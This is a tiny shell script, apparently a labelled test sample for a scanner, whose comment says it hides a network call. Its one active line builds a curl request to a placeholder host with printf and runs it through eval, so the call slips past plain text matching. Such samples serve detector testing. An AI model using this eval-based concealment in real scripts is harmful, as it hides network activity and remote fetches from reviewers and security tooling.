# capabilities: dynamic-code, network, processes; hidden by: printf in eval
eval "$(printf '%s %s' curl http://example.invalid/)"
echo "done"
